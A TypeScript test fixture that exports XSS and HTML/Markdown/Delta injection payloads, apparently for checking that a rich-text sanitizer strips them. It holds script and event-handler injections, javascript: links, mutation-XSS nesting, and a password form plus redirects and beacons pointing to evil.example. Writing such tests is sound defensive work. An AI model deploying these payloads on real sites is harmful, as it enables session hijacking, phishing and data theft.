/** Attacks of our own writing, so that the promise is kept where no corpus is at hand. */
export const attacks: { format: 0 | 1; content: string }[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<a href="javascript:alert(1)">x</a> [x](javascript:alert(1)) [y](java&Tab;script:alert(1))',
  '[a](data:text/html,x) [b](vbscript:x) [c](https://good.example@evil.example) [d](/\\evil.example)',
  '<iframe src="https://player.bilibili.com.evil.example/"></iframe><iframe srcdoc="<script>1</script>"></iframe>',
  '<iframe src="https://player.bilibili.com/player.html" onload="alert(1)" srcdoc="x"></iframe>',
  '<p style="position:fixed;inset:0;background:url(https://evil.example/x);color:red">x</p>',
  '<div class="modal fixed hljs" id="root" name="auth" data-token="1">x</div>',
  '<form action="https://evil.example"><input name=password autofocus><button formaction=x>登录</button></form>',
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css"><style>@import url(https://evil.example)</style>',
  '<img srcset="https://evil.example/x 2x" src="https://a.cn/x.png" ping=x longdesc=y>',
  '<video poster="https://evil.example/p"><source src="https://evil.example/v"></video><audio src=x></audio>',
  '<table background="https://evil.example/x"><td width=9e9 colspan=99999>x</table>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template><xmp><script>1</script></xmp>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<input type=checkbox checked onfocus=alert(1) autofocus><input type=image src=x>',
  '$\\href{javascript:alert(1)}{x}$ $\\htmlData{onclick=alert(1)}{x}$ $\\includegraphics{https://evil.example}$',
  '```js" onmouseover="alert(1)\nx\n```\n\n```\n</code></pre><script>alert(1)</script>\n```',
  '[^<img src=x onerror=alert(1)>]\n\n[^<img src=x onerror=alert(1)>]: <script>x</script>',
  '<a href="https://a.cn">外<a href="https://b.cn">内</a></a><p>段<table><tr><td><p>格</table>',
  '<b><p>x</b>y</p><ul><li>a<li>b</ul><h1>a<h2>b</h2></h1><p><div>c</div></p>',
  '![alt <img src=x onerror=alert(1)>](javascript:alert(1))',
].map((content) => ({ format: 0 as const, content }))

const delta = (...ops: unknown[]) => ({ format: 1 as const, content: JSON.stringify({ ops }) })

attacks.push(
  delta({ insert: 'x', attributes: { link: 'javascript:alert(1)' } }, { insert: '\n' }),
  delta({ insert: '<img src=x onerror=alert(1)>\n' }),
  delta({
    insert: 'x',
    attributes: { color: 'red;position:fixed', background: 'url(https://evil.example)' },
  }),
  delta({
    insert: 'x',
    attributes: { size: 'huge fixed', font: '" onload="1', onclick: 'x', class: 'modal' },
  }),
  delta({
    insert: 'x\n',
    attributes: { align: 'x" onload=', indent: 99, header: 9, direction: 'rtl' },
  }),
  delta(
    { insert: { image: 'javascript:alert(1)' } },
    { insert: { image: 'data:image/svg+xml,<svg/>' } },
  ),
  delta(
    { insert: { video: 'https://evil.example/' } },
    { insert: { video: 'javascript:alert(1)' } },
  ),
  delta(
    { insert: { formula: '\\href{javascript:alert(1)}{x}' } },
    { insert: { html: '<script>1</script>' } },
  ),
  delta({ insert: 'x\n', attributes: { 'code-block': 'js" onload="alert(1)' } }),
  delta(
    { insert: 'x\n', attributes: { list: 'checked" onload=' } },
    { insert: 'y\n', attributes: { list: {} } },
  ),
)
